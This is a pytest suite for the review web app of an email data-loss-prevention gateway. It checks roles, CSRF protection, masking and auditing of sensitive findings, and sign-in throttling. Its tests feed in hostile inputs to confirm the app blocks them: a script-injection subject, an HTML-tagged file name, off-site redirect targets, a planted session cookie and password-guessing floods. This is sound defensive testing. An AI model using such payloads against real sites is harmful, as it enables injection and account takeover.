"""The review app, route by route and role by role, against a real store and a real sink."""

from __future__ import annotations

import dataclasses
import functools
import html
import re
import sqlite3
import subprocess
import sys
import threading
import time

import pytest
import yaml
from starlette.testclient import TestClient

from dlpgate import testdata
from dlpgate.config import Settings
from dlpgate.pipeline import Scanner
from dlpgate.review import auth, links
from dlpgate.review.app import create_app
from dlpgate.review.auth import hash_password
from dlpgate.store.base import AuditEntry, HeldMessage
from dlpgate.store.sqlite import SQLiteStore
from dlpgate.testing import Sink, make_envelope, make_message

PASSWORD = "correct horse battery"
NEW_PASSWORD = "battery staple horse"
NHS = "943 476 5919"


@functools.cache
def hashed() -> str:
    """PASSWORD's hash at the real cost, made once for every account the tests here add: each
    hash is half a second and 128 MiB, and a fresh salt per account tests nothing."""
    return hash_password(PASSWORD)


@pytest.fixture(scope="module")
def scanner():
    return Scanner(Settings.model_validate({
        "organisation": {"internal_domains": ["example-council.gov.uk"]},
        "detection": {"ner": False}}))


@pytest.fixture
def world(tmp_path, scanner):
    sink = Sink().start()
    store = SQLiteStore(f"sqlite:///{tmp_path / 'r.db'}")
    for name, roles in (("ann", ("reviewer",)), ("audrey", ("auditor",)),
                        ("root", ("admin",))):
        store.save_user(name, hashed(), roles)
    settings = Settings.model_validate({
        "organisation": {"internal_domains": ["example-council.gov.uk"]},
        "storage": {"url": f"sqlite:///{tmp_path / 'r.db'}"},
        "relay": {"next_hop": sink.address},
        "review": {"secure_cookies": False}})
    raw = make_message(to=("carer@gmail.com",),
                       subject="<script>alert('subject')</script> Assessment",
                       body=f"NHS number {NHS}: she was diagnosed with epilepsy.\n",
                       attachments=(("<b>evil</b>.zip", "application/zip",
                                     testdata.make_encrypted_zip({"a": b"b"})),))
    result = scanner.scan(raw, make_envelope(raw))
    assert result.decision.verdict == "hold"
    item = HeldMessage.of(result, make_envelope(raw), raw, time.time() - 3600)
    store.hold(item)
    yield {"store": store, "sink": sink, "settings": settings, "id": item.id, "raw": raw,
           "db": tmp_path / "r.db"}
    store.close()
    sink.stop()


def client(world) -> TestClient:
    return TestClient(create_app(world["settings"], world["store"]), follow_redirects=False)


def signed_in(world, name: str) -> TestClient:
    """A client with a session of `name`'s, begun in the store as the sign-in page begins one
    once the password is right; the sign-in page itself is `signed_in_by_password`, and the
    tests of signing in use that (each check of a password is half a second)."""
    store = world["store"]
    token = auth.new_token()
    store.create_session(auth.token_hash(token), name, auth.new_token(),
                         store.get_user(name).generation)
    c = client(world)
    c.cookies.set("dlpgate_session", token)
    return c


def signed_in_by_password(world, name: str) -> TestClient:
    c = client(world)
    r = c.post("/login", data={"username": name, "password": PASSWORD, "next": "/"})
    assert r.status_code == 303, r.text
    return c


def csrf(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def test_every_page_needs_a_signed_in_user(world):
    c = client(world)
    for path in ("/", f"/m/{world['id']}", "/audit", "/audit.csv", "/dashboard"):
        r = c.get(path)
        assert r.status_code == 303 and r.headers["location"].startswith("/login?next=/"), path
    assert c.post(f"/m/{world['id']}/release", data={"comment": "x"}).status_code == 303
    assert world["sink"].received == []


def test_each_role_reaches_only_its_own_pages(world):
    ann, audrey, root = (signed_in(world, n) for n in ("ann", "audrey", "root"))
    item = f"/m/{world['id']}"
    assert [ann.get(p).status_code for p in ("/", item, "/dashboard", "/audit", "/audit.csv")] \
        == [200, 200, 200, 403, 403]
    assert [audrey.get(p).status_code for p in (item, "/dashboard", "/audit",
                                                "/audit.csv")] == [403, 200, 200, 200]
    # the address everyone is given opens the auditor's own page, not a refusal
    assert audrey.get("/").headers["location"] == "/audit"
    assert [root.get(p).status_code for p in ("/", item, "/audit")] == [200, 200, 403]


def test_a_form_posted_without_its_csrf_token_is_refused(world):
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    r = ann.post(f"/m/{world['id']}/release", data={"comment": "ok"})
    assert r.status_code == 403 and "security token" in r.text
    for forged in ("forged", "forg\u00e9d"):  # compared in constant time, as bytes
        r = ann.post(f"/m/{world['id']}/release", data={"comment": "ok", "csrf": forged})
        assert r.status_code == 403
    assert world["sink"].received == [] and world["store"].get_held(world["id"]).state == "held"
    other = signed_in(world, "root")  # another session's token is no good either
    r = other.post(f"/m/{world['id']}/release", data={"comment": "ok", "csrf": csrf(page)})
    assert r.status_code == 403


def test_each_recipient_shows_its_signals_with_their_explanations(world):
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    assert "<strong>personal-webmail</strong>: gmail.com is a personal webmail service" in page
    # a message held before explanations were kept shows the signals' names
    store = world["store"]
    old = store.get_held(world["id"])
    bare = dataclasses.replace(old, id="0" * 22, recipients=tuple(
        {k: v for k, v in r.items() if k != "explanations"} for r in old.recipients))
    store.hold(bare)
    page = ann.get(f"/m/{bare.id}").text
    assert "personal-webmail" in page and "<strong>personal-webmail</strong>" not in page


def test_what_speaks_for_a_recipient_is_listed_apart_from_the_warning_signs(world):
    store = world["store"]
    old = store.get_held(world["id"])
    held = dataclasses.replace(old, id="3" * 22, recipients=({
        "address": "dr.patel@nhs.com", "risk": 1.0,
        "signals": ["new-to-organisation", "named-in-message", "lookalike-domain", "greeted"],
        "explanations": ["no one here has written to nhs.com before",
                         "the message names dr.patel@nhs.com",
                         "nhs.com has the name of nhs.net with .com instead of .net",
                         "the message opens by greeting P\u2022\u2022\u2022\u2022"]},))
    store.hold(held)
    page = signed_in(world, "ann").get(f"/m/{held.id}").text
    cell = page.split("dr.patel@nhs.com</td>")[1].split("</td></tr>")[0]
    warnings, favour = cell.split("In its favour:")
    assert re.findall(r"<strong>([a-z-]+)</strong>", warnings) == [
        "new-to-organisation", "lookalike-domain"]
    assert re.findall(r"<strong>([a-z-]+)</strong>", favour) == ["named-in-message", "greeted"]
    assert "<strong>greeted</strong>: the message opens by greeting P" in favour
    # a recipient with nothing in its favour has no such heading
    assert "In its favour" not in signed_in(world, "ann").get(f"/m/{world['id']}").text


def test_forty_recipients_with_the_same_signals_are_one_row_their_addresses_folded(world):
    store = world["store"]
    old = store.get_held(world["id"])
    carers = tuple({"address": f"carer{i}@gmail.com", "risk": 0.99,
                    "signals": ["new-to-organisation", "personal-webmail", "bulk-exposure"],
                    "explanations": [f"no one here has written to carer{i}'s domain",
                                     "gmail.com is a personal webmail service",
                                     "40 external addresses are visible to every recipient"]}
                   for i in range(40))
    held = dataclasses.replace(old, id="4" * 22, rcpt_tos=tuple(c["address"] for c in carers),
                               recipients=carers)
    store.hold(held)
    page = signed_in(world, "ann").get(f"/m/{held.id}").text
    table = page.split("<h2>Recipients</h2>")[1].split("</table>")[0]
    assert table.count("<tr>") == 2  # the heading's and the one row
    assert "<summary>40 recipients with the same signals</summary>" in table
    assert all(f"<li>carer{i}@gmail.com</li>" in table for i in range(40))
    assert "For example, carer0@gmail.com:" in table
    assert table.count("<strong>personal-webmail</strong>") == 1
    assert "<summary>Or release to only some of the 40 recipients</summary>" in page


def test_the_dashboard_shows_how_often_holds_with_each_recipient_signal_were_released(world):
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    ann.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "her own GP"})
    store = world["store"]
    old = store.get_held(world["id"])
    rejected = dataclasses.replace(old, id="1" * 22, state="held", recipients=(
        {"address": "carer@gmial.com", "risk": 1.0,
         "signals": ["new-to-organisation", "lookalike-domain"]},))
    store.hold(rejected)
    page = ann.get(f"/m/{rejected.id}").text
    ann.post(f"/m/{rejected.id}/reject", data={"csrf": csrf(page), "comment": "typo"})
    rows = re.findall(r"<tr><td>([a-z-]+)</td><td>(\d+)</td><td>(\d+)</td></tr>",
                      ann.get("/dashboard").text.split("per recipient signal")[1])
    got = {signal: (int(released), int(decided)) for signal, released, decided in rows}
    assert got["new-to-organisation"] == (1, 2)   # on both: one released of two decided
    assert got["personal-webmail"] == (1, 1)
    assert got["lookalike-domain"] == (0, 1)


def test_the_dashboard_counts_the_holds_of_the_period_asked_and_every_one_waiting(world):
    store = world["store"]
    old = store.get_held(world["id"])
    now = time.time()
    for n, (age_days, state) in enumerate([(40, "released"), (40, "held"), (200, "rejected")]):
        store.hold(dataclasses.replace(old, id=f"{n}" * 22, created=now - age_days * 86400,
                                       updated=now - age_days * 86400 + 3600, state=state,
                                       rules=(f"rule-{age_days}",)))
    ann = signed_in(world, "ann")

    def rates(query: str = "") -> dict[str, tuple[int, int]]:
        page = ann.get(f"/dashboard{query}").text
        assert "Waiting now: <strong>2</strong>" in page  # the fixture's, and one held 40 days
        rows = re.findall(r"<tr><td>([a-z0-9-]+)</td><td>(\d+)</td><td>(\d+)</td><td>",
                          page.split("per rule")[1].split("per recipient signal")[0])
        return {rule: (int(released), int(decided)) for rule, released, decided in rows}

    assert "rule-40" not in rates() and "rule-40" not in rates("?days=7")  # 30 days unless asked
    assert rates("?days=90")["rule-40"] == (1, 1) and "rule-200" not in rates("?days=90")
    assert rates("?days=365")["rule-200"] == (0, 1)
    assert rates("?days=31") == rates()  # a period not offered is the default
    assert '<option value="90" selected>' in ann.get("/dashboard?days=90").text


def test_a_signal_on_a_recipient_left_out_of_a_release_counts_as_not_released(world):
    store = world["store"]
    old = store.get_held(world["id"])
    two = dataclasses.replace(old, id="2" * 22, rcpt_tos=("carer@gmail.com", "carer@gmial.com"),
                              recipients=(
        {"address": "carer@gmail.com", "risk": 0.9, "signals": ["personal-webmail"]},
        {"address": "carer@gmial.com", "risk": 1.0, "signals": ["lookalike-domain"]}))
    store.hold(two)
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{two.id}").text
    r = ann.post(f"/m/{two.id}/release", data={"csrf": csrf(page), "comment": "not the typo",
                                               "rcpt": "carer@gmail.com"})
    assert r.status_code == 200
    rows = re.findall(r"<tr><td>([a-z-]+)</td><td>(\d+)</td><td>(\d+)</td></tr>",
                      ann.get("/dashboard").text.split("per recipient signal")[1])
    got = {signal: (int(released), int(decided)) for signal, released, decided in rows}
    assert got["personal-webmail"] == (1, 1)
    assert got["lookalike-domain"] == (0, 1)  # the reviewer kept it from that address
    # and the released list says who released it, and that it went to some recipients only
    assert "released by web:ann, to some recipients" in ann.get("/?state=released").text


def test_findings_are_masked_until_a_reason_is_given_then_shown_and_audited(world):
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    assert NHS not in page and "\u2022\u2022\u2022 \u2022919" in page  # masked, recognisable
    no_reason = ann.post(f"/m/{world['id']}/reveal", data={"csrf": csrf(page), "reason": ""})
    assert no_reason.status_code == 400 and NHS not in no_reason.text
    shown = ann.post(f"/m/{world['id']}/reveal",
                     data={"csrf": csrf(page), "reason": "checking the referral"})
    assert shown.status_code == 200
    # marked, and said to a screen reader as what it is (a title is read by few)
    assert (f'<mark title="NHS number">{NHS}<span class="visually-hidden"> (NHS number)'
            '</span></mark>') in shown.text
    actions = [(e.actor, e.action, e.reason) for e in world["store"].audit_log(world["id"])]
    assert ("web:ann", "reveal", "checking the referral") in actions
    assert ("web:ann", "view", "") in actions


def test_a_file_named_after_its_person_is_kept_masked_labelled_before_a_reason_and_named_after(
        world, scanner):
    # the hold kept "Amy Reid NHS 943 476 5919 DOB 12-03-2015.zip: password-protected ZIP
    # archive" whole in its reasons and its finding's explanation, which the sender's link
    # page and `quarantine show` print with no reason asked
    name = f"Amy Reid NHS {NHS} DOB 12-03-2015.zip"
    raw = make_message(to=("carer@gmail.com",), body="See attached.\n", attachments=(
        (name, "application/zip", testdata.make_encrypted_zip({"a": b"b"})),))
    item = HeldMessage.of(scanner.scan(raw, make_envelope(raw)), make_envelope(raw), raw,
                          time.time())
    world["store"].hold(item)
    kept = world["store"].get_held(item.id)
    assert NHS not in " ".join(kept.reasons) and "12-03-2015" not in " ".join(kept.reasons)
    assert all(NHS not in f["explanation"] for f in kept.findings)
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{item.id}").text
    assert NHS not in page and "12-03-2015" not in page
    # named by its place and kind, as every file is before a reason, in findings and reasons
    assert page.count("attachment 1 (.zip): password-protected ZIP archive") == 2
    shown = ann.post(f"/m/{item.id}/reveal",
                     data={"csrf": csrf(page), "reason": "checking the referral"}).text
    why = shown.split("<h2>Why</h2>")[1].split("</ul>")[0]
    assert f"<li>{name}: password-protected ZIP archive" in why


def test_every_showing_of_the_message_page_is_audited_as_a_view_whatever_its_status(world):
    # a reveal asked without a reason answered 400 with the page itself (the findings masked,
    # the recipients, the reasons) and nothing on the audit trail said anyone had looked
    store, item = world["store"], world["id"]
    sender = store.get_held(item).mail_from
    store.save_user("sam", hashed(), ("reviewer",), mailboxes=(sender,))
    ann, sam = signed_in(world, "ann"), signed_in(world, "sam")
    url = f"/m/{item}"
    page = ann.get(url).text
    token = {"csrf": csrf(page)}
    shown = [
        (ann.post(f"{url}/reveal", data={**token, "reason": ""}), 400),
        (ann.post(f"{url}/reveal", data={**token, "reason": "why"}), 400),
        (ann.post(f"{url}/release", data={**token, "comment": " "}), 400),
        (ann.post(f"{url}/reject", data={**token, "comment": ""}), 400),
        (sam.post(f"{url}/release", data={"csrf": csrf(sam.get(url).text), "comment": "mine"}),
         403),
        (ann.post(f"{url}/reveal", data={**token, "reason": "checking the referral"}), 200),
        (ann.post(f"{url}/release", data={**token, "comment": "her GP"}), 200),
        (ann.post(f"{url}/release", data={**token, "comment": "again"}), 409),
    ]
    for response, status in shown:
        assert response.status_code == status and "carer@gmail.com" in response.text
    assert ann.post(f"{url}/forward", data={**token, "comment": "x"}).status_code == 404
    views = [(e.actor, e.detail) for e in reversed(store.audit_log(item)) if e.action == "view"]
    assert views == [
        ("web:ann", ""),
        ("web:ann", "400 after reveal without a reason"),
        ("web:ann", "400 after reveal without a reason"),
        ("web:ann", "400 after release without a comment"),
        ("web:ann", "400 after reject without a comment"),
        ("web:sam", ""),
        ("web:sam", "403 after release-refused"),
        ("web:ann", "200 after reveal"),
        ("web:ann", "200 after release"),
        ("web:ann", "409 after release"),
    ]


def test_release_from_the_page_reaches_the_sink_once(world):
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    r = ann.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "fine"})
    assert r.status_code == 200 and 'id="state">released' in r.text
    again = ann.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "x"})
    assert again.status_code == 409 and "already released" in again.text
    [got] = world["sink"].received
    assert got.data.startswith(b"X-DLP-Released-By: web at ") and got.data.endswith(world["raw"])


def test_a_release_while_the_next_hop_is_down_shows_the_error(world):
    world["sink"].stop()
    ann = signed_in(world, "ann")
    page = ann.get(f"/m/{world['id']}").text
    r = ann.post(f"/m/{world['id']}/release", data={"csrf": csrf(page), "comment": "fine"})
    assert r.status_code == 409 and "still held" in r.text and "451" in r.text
    assert world["store"].get_held(world["id"]).state == "held"
    # audited as the release that failed, not as one someone else's decision refused
    actions = [e.action for e in world["store"].audit_log(world["id"])]
    assert "release-failed" in actions and "release-refused" not in actions


def test_subjects_headers_and_file_names_are_escaped_everywhere(world):
    ann = signed_in(world, "ann")
    for path in ("/", f"/m/{world['id']}"):
        text = ann.get(path).text
        assert "<script>" not in text and "<b>evil</b>" not in text, path
    page = ann.get(f"/m/{world['id']}").text
    assert "evil" not in page  # a file is named by its kind until a reason is given
    assert "attachment 1 (.zip): " in page
    shown = ann.post(f"/m/{world['id']}/reveal",
                     data={"csrf": csrf(page), "reason": "which file is locked"}).text
    assert "<b>evil</b>" not in shown and "&lt;b&gt;evil&lt;_b&gt;.zip" in shown  # escaped


def test_sign_in_replaces_any_earlier_session_token(world):
    c = client(world)
    r = c.post("/login", data={"username": "ann", "password": PASSWORD, "next": "/"},
               headers={"cookie": "dlpgate_session=planted-by-an-attacker"})
    issued = r.cookies.get("dlpgate_session")
    assert issued and issued != "planted-by-an-attacker"
    assert "HttpOnly" in r.headers["set-cookie"] and "SameSite=strict" in r.headers["set-cookie"]
    assert world["store"].get_session("planted-by-an-attacker") is None


def test_the_next_page_after_sign_in_stays_on_this_site(world):
    c = client(world)
    for evil in ("//evil.example/", "https://evil.example/", "/\\evil.example"):
        r = c.post("/login", data={"username": "ann", "password": PASSWORD, "next": evil})
        assert r.headers["location"] == "/", evil


def test_a_form_is_read_without_files_or_a_field_longer_than_any_form_here_has(world):
    # anyone could post a file of any size to the sign-in form (or a sender's link), and it
    # was written to the server's disk, beside the quarantine, while the form was read
    big = "x" * 100_000
    key = links.link_key(world["settings"], world["store"])
    for path in ("/login", f"/l/{links.make(key, world['id'], 'cancel', time.time() + 60)}"):
        r = client(world).post(path, data={"username": "ann"},
                               files={"upload": ("a.bin", b"\0" * 2_000_000)})
        assert r.status_code == 400, path
        r = client(world).post(path, data={"username": "ann", "password": big})
        assert r.status_code == 400, path


def test_checking_a_password_leaves_the_relays_event_loop_free(world, monkeypatch):
    # the app shares its event loop with the relay, and scrypt ran on it: each sign-in, by
    # anyone from anywhere, held every SMTP session still for as long as the hash took
    import asyncio

    import httpx

    from dlpgate.review.server import AppServer
    from dlpgate.testing import free_port
    from dlpgate.workers import spawn

    slow = auth.check_password

    def costly(password: str, stored: str) -> bool:  # a hash as dear as a slow server's
        time.sleep(0.4)
        return slow(password, stored)

    monkeypatch.setattr(auth, "check_password", costly)

    async def sign_ins() -> tuple[list[int], float]:
        port = free_port()
        server = AppServer(create_app(world["settings"], world["store"]), f"127.0.0.1:{port}")
        await server.start()
        stalls, done = [0.0], asyncio.Event()

        async def tick() -> None:
            last = time.monotonic()
            while not done.is_set():
                await asyncio.sleep(0.01)
                stalls.append(time.monotonic() - last)
                last = time.monotonic()

        ticking = spawn(tick(), name="tick")
        try:
            async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}") as c:
                codes = [(await c.post("/login", data={"username": name, "password": pw})
                          ).status_code for name, pw in (("ann", "wrong"), ("ann", PASSWORD))]
        finally:
            done.set()
            await ticking
            await server.stop()
        return codes, max(stalls)

    codes, stall = asyncio.run(sign_ins())
    assert codes == [401, 303] and stall < 0.2


def test_wrong_passwords_sent_all_at_once_are_locked_out_after_five_as_one_by_one(world,
                                                                                  monkeypatch):
    # with the password checked off the event loop, tries that arrived while one was being
    # checked would each have found the name not yet locked out
    import asyncio

    import httpx

    from dlpgate.review.server import AppServer
    from dlpgate.testing import free_port

    checked, slow = [], auth.check_password

    def costly(password: str, stored: str) -> bool:
        checked.append(password)
        time.sleep(0.2)
        return slow(password, stored)

    monkeypatch.setattr(auth, "check_password", costly)

    async def at_once() -> list[int]:
        port = free_port()
        server = AppServer(create_app(world["settings"], world["store"]), f"127.0.0.1:{port}")
        await server.start()
        try:  # checked one at a time (auth.Hashing), the fifth waits for the four before
            async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}", timeout=120) as c:
                replies = await asyncio.gather(*(
                    c.post("/login", data={"username": "ann", "password": f"guess {i}"})
                    for i in range(12)))
        finally:
            await server.stop()
        return sorted(r.status_code for r in replies)

    assert asyncio.run(at_once()) == [401] * 5 + [429] * 7 and len(checked) == 5


def test_a_flood_of_sign_ins_is_hashed_one_at_a_time_and_past_a_short_queue_refused_unhashed(
        world, monkeypatch):
    # every try ran its hash at once on a thread of its own: a flood of wrong passwords from
    # addresses not yet locked out took both of the relay's CPUs, and 128 MiB a try. The
    # reviewer's browser, one her name signed in on before, waits its turn and gets in.
    import asyncio

    import httpx

    from dlpgate.review.server import AppServer
    from dlpgate.testing import free_port

    lock, running, most, checked = threading.Lock(), [0], [0], []
    gate = threading.Event()  # the hashes go on when it opens: the flood is all in by then
    gate.set()
    real = auth.check_password

    def costly(password: str, stored: str) -> bool:  # a hash, held until the gate opens
        with lock:
            running[0] += 1
            most[0] = max(most[0], running[0])
            checked.append(password)
        gate.wait(30)
        time.sleep(0.05)
        with lock:
            running[0] -= 1
        return password == PASSWORD and real(password, stored)

    monkeypatch.setattr(auth, "check_password", costly)

    async def flood() -> tuple[list[int], int]:
        port = free_port()
        app = create_app(world["settings"], world["store"])
        hashing = app.state.hashing
        server = AppServer(app, f"127.0.0.1:{port}")
        await server.start()
        base = f"http://127.0.0.1:{port}"
        answered: list[int] = []

        async def guess(c: httpx.AsyncClient, i: int) -> None:
            r = await c.post("/login", data={"username": f"nobody{i}", "password": "guess"})
            answered.append(r.status_code)

        async def until(done) -> None:
            for _ in range(3000):
                if done():
                    return
                await asyncio.sleep(0.01)

        try:
            async with httpx.AsyncClient(base_url=base) as ann, \
                    httpx.AsyncClient(base_url=base) as them:
                assert (await ann.post("/login", data={"username": "ann", "password": PASSWORD})
                        ).status_code == 303  # her browser, known from here on
                gate.clear()

                async def then_ann() -> int:
                    # the queue full, and the tries past it answered, she tries too
                    await until(lambda: hashing.full() and len(answered) == 12 - hashing.pending)

                    async def opened() -> None:
                        await until(lambda: hashing.pending > hashing.at_once + hashing.waiting)
                        gate.set()

                    r, _ = await asyncio.gather(ann.post(
                        "/login", data={"username": "ann", "password": PASSWORD}), opened())
                    return r.status_code

                *_, hers = await asyncio.gather(*(guess(them, i) for i in range(12)),
                                                then_ann())
        finally:
            gate.set()
            await server.stop()
        return sorted(answered), hers

    codes, hers = asyncio.run(flood())
    waiting = auth.Hashing().waiting
    assert codes == [401] * (1 + waiting) + [503] * (11 - waiting) and hers == 303
    assert most[0] == 1 and len(checked) == 1 + (1 + waiting) + 1  # none refused was hashed
    refused = world["store"].audit_log(action="sign-in-refused")
    assert refused and all(e.reason.startswith("busy") for e in refused)


def test_a_password_hashed_at_the_old_cost_is_hashed_again_at_its_next_sign_in(world):
    # raising scrypt's cost left every account on the old one until its password changed;
    # made again at the sign-in, nothing issued under it ends, for the password is the same
    import base64
    import hashlib

    store = world["store"]
    salt = b"s" * 16
    digest = hashlib.scrypt(PASSWORD.encode(), salt=salt, n=2**14, r=8, p=1, dklen=32)
    old = f"scrypt$16384$8$1${base64.b64encode(salt).decode()}${base64.b64encode(digest).decode()}"
    store.save_user("kim", old, ("reviewer",))
    earlier = signed_in(world, "kim")  # a session begun under the old hash
    assert client(world).post("/login", data={"username": "kim", "password": "wrong"}
                              ).status_code == 401
    assert store.get_user("kim").password_hash == old  # only the right password is hashed
    generation = store.get_user("kim").generation
    kim = client(world)
    assert kim.post("/login", data={"username": "kim", "password": PASSWORD}).status_code == 303
    now = store.get_user("kim")
    assert now.password_hash.startswith("scrypt$131072$8$1$") and now.generation == generation
    assert auth.check_password(PASSWORD, now.password_hash)
    assert earlier.get("/").status_code == kim.get("/").status_code == 200


def test_sign_in_is_throttled_after_five_failures(world):
    c = client(world)
    for _ in range(5):
        assert c.post("/login", data={"username": "ann", "password": "wrong"}).status_code == 401
    r = c.post("/login", data={"username": "ann", "password": PASSWORD})
    assert r.status_code == 429 and "Too many" in r.text
    assert "sign-in-refused" in [e.action for e in world["store"].audit_log()]


def test_two_review_nodes_on_one_store_lock_out_a_guesser_together(world):
    # each node counted failures in its own memory: behind a load balancer, a lockout's
    # worth of guesses at every node
    node_a, node_b = client(world), client(world)
    for c in (node_a, node_b, node_a, node_b, node_a):
        assert c.post("/login", data={"username": "ann", "password": "wrong"}).status_code == 401
    r = node_b.post("/login", data={"username": "ann", "password": PASSWORD})
    assert r.status_code == 429 and "Too many" in r.text


def test_behind_the_proxy_one_clients_failures_lock_out_that_client_not_the_team(world):
    # every reviewer arrives from the proxy's address: five failures with invented names from
    # anywhere locked everyone out
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"trusted_proxies": ["10.0.0.0/8"]})})
    proxy = TestClient(create_app(settings, world["store"]), follow_redirects=False,
                       client=("10.0.0.5", 4000))
    for i in range(10):  # an address, whatever the names: ten (five for one name there)
        assert proxy.post("/login", data={"username": f"nobody{i}", "password": "x"}, headers={
            "X-Forwarded-For": "203.0.113.9"}).status_code == 401
    assert proxy.post("/login", data={"username": "nobody99", "password": "x"}, headers={
        "X-Forwarded-For": "203.0.113.9"}).status_code == 429
    assert proxy.post("/login", data={"username": "ann", "password": PASSWORD}, headers={
        "X-Forwarded-For": "198.51.100.7"}).status_code == 303


def test_an_ipv6_client_is_locked_out_by_its_64_not_each_address_it_steps_to(world):
    # a host is given a /64 whole: a fresh address for each try passed the address lockout
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"trusted_proxies": ["10.0.0.0/8"]})})
    proxy = TestClient(create_app(settings, world["store"]), follow_redirects=False,
                       client=("10.0.0.5", 4000))
    for i in range(10):
        assert proxy.post("/login", data={"username": f"nobody{i}", "password": "x"}, headers={
            "X-Forwarded-For": f"2001:db8:1:2::{i + 1:x}"}).status_code == 401
    assert proxy.post("/login", data={"username": "nobody99", "password": "x"}, headers={
        "X-Forwarded-For": "2001:db8:1:2:ffff::1"}).status_code == 429
    assert proxy.post("/login", data={"username": "ann", "password": PASSWORD}, headers={
        "X-Forwarded-For": "2001:db8:1:3::1"}).status_code == 303  # the next /64 is another


def test_failures_at_a_reviewers_name_from_elsewhere_do_not_lock_her_out(world, monkeypatch):
    # five wrong passwords typed against "ann" from anywhere locked ann out for 15 minutes
    now = time.time()
    monkeypatch.setattr(auth, "_clock", lambda: now)  # the names' waits do not run out
    app = create_app(world["settings"], world["store"])

    def at(address: str) -> TestClient:
        return TestClient(app, follow_redirects=False, client=(address, 4000))

    ann = at("198.51.100.7")
    assert ann.post("/login", data={"username": "ann", "password": PASSWORD}).status_code == 303
    for name in ("ann", "root"):
        for i in range(8):
            guess = at(f"203.0.113.{i}").post("/login", data={"username": name,
                                                             "password": f"guess{i}"})
            assert guess.status_code in (401, 429)
    r = ann.post("/login", data={"username": "ann", "password": PASSWORD})
    assert r.status_code == 303 and r.cookies.get("dlpgate_session")
    refused = [e for e in world["store"].audit_log() if e.action == "sign-in-refused"]
    assert refused and all(e.detail.startswith("203.0.113.") for e in refused)
    # her browser's cookie is for her name only, and a forged one spares no one
    assert ann.post("/login", data={"username": "root", "password": PASSWORD}).status_code == 429
    other = at("198.51.100.8")
    other.cookies.set("dlpgate_known", "1.forged", path="/login")
    assert other.post("/login", data={"username": "ann", "password": PASSWORD}).status_code == 429


def users(world, *args: str, password: str = "") -> None:
    """`dlpgate users ...` as an operator runs it, on the app's store."""
    cfg = world["db"].parent / "users.yaml"
    cfg.write_text(yaml.safe_dump({"storage": {"url": world["settings"].storage.url}}))
    done = subprocess.run([sys.executable, "-m", "dlpgate", "users", *args, "--config", str(cfg)],
                          input=password, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr


def test_a_password_change_or_a_disable_ends_a_browsers_pass_past_the_names_slowing(
        world, monkeypatch):
    # `users passwd` ended her sessions, but the browser she had signed in on kept its known
    # cookie, and with it its pass: a laptop left at a desk, or taken, went on trying
    # passwords at her name unslowed while guesses from elsewhere were slowed
    clock = [time.time()]
    monkeypatch.setattr(auth, "_clock", lambda: clock[0])
    app = create_app(world["settings"], world["store"])

    def at(address: str) -> TestClient:
        return TestClient(app, follow_redirects=False, client=(address, 4000))

    def guesses_at_ann() -> None:
        for i in range(6):
            at(f"203.0.113.{i}").post("/login", data={"username": "ann", "password": f"guess{i}"})

    laptop = at("198.51.100.7")
    assert laptop.post("/login", data={"username": "ann", "password": PASSWORD}).status_code == 303
    users(world, "passwd", "ann", password=f"{NEW_PASSWORD}\n")
    guesses_at_ann()
    slowed = laptop.post("/login", data={"username": "ann", "password": NEW_PASSWORD})
    assert slowed.status_code == 429 and "Too many failed attempts at this name" in slowed.text
    # signed in with the new password, the browser has a pass again
    clock[0] += 2.1
    assert laptop.post("/login", data={"username": "ann",
                                       "password": NEW_PASSWORD}).status_code == 303
    guesses_at_ann()
    assert laptop.post("/login", data={"username": "ann",
                                       "password": NEW_PASSWORD}).status_code == 303
    # disabled, she is slowed like anyone (and refused after the wait: 401 said the password
    # was checked there and then, past the slowing)
    users(world, "disable", "ann")
    slowed = laptop.post("/login", data={"username": "ann", "password": NEW_PASSWORD})
    assert slowed.status_code == 429 and "Too many failed attempts at this name" in slowed.text


def test_a_password_change_or_a_disable_ends_every_session_even_one_begun_meanwhile(world):
    # a sign-in whose password was checked just before `users passwd` wrote its session just
    # after the command had ended the account's sessions, and it lived on
    store = world["store"]
    ann, root = signed_in(world, "ann"), signed_in(world, "root")
    assert ann.get("/").status_code == root.get("/").status_code == 200
    before = {name: store.get_user(name).generation for name in ("ann", "root")}
    users(world, "passwd", "ann", password=f"{NEW_PASSWORD}\n")
    users(world, "disable", "root")
    assert ann.get("/").status_code == root.get("/").status_code == 303
    for name in ("ann", "root"):
        late = f"begun-meanwhile-{name}"
        store.create_session(auth.token_hash(late), name, "csrf", before[name])
        r = client(world).get("/", headers={"cookie": f"dlpgate_session={late}"})
        assert r.status_code == 303 and store.get_session(auth.token_hash(late)) is None
    again = client(world)  # and a sign-in with the new password begins one that works
    assert again.post("/login", data={"username": "ann", "password": NEW_PASSWORD}
                      ).status_code == 303
    assert again.get("/").status_code == 200


def test_guessing_one_name_from_many_addresses_is_slowed_and_audited(world, monkeypatch):
    clock = [time.time()]
    monkeypatch.setattr(auth, "_clock", lambda: clock[0])
    settings = world["settings"].model_copy(update={"review": world["settings"].review.model_copy(
        update={"refusals_audited": 50})})  # every try written one by one, to be read here
    app = create_app(settings, world["store"])

    def attempt(i: int, name: str = "ann", password: str = "wrong"):
        c = TestClient(app, follow_redirects=False, client=(f"203.0.113.{i}", 4000))
        return c.post("/login", data={"username": name, "password": password})

    for i in range(5):  # one try each from five addresses: none of them is locked out
        assert attempt(i).status_code == 401
    slowed = attempt(5, password=PASSWORD)  # not even the password is checked
    assert slowed.status_code == 429 and "Try again in 1 second" in slowed.text
    assert "set-cookie" not in slowed.headers
    clock[0] += 1.1
    assert attempt(6).status_code == 401  # the sixth failure: then two seconds
    assert "Try again in 2 seconds" in attempt(7).text
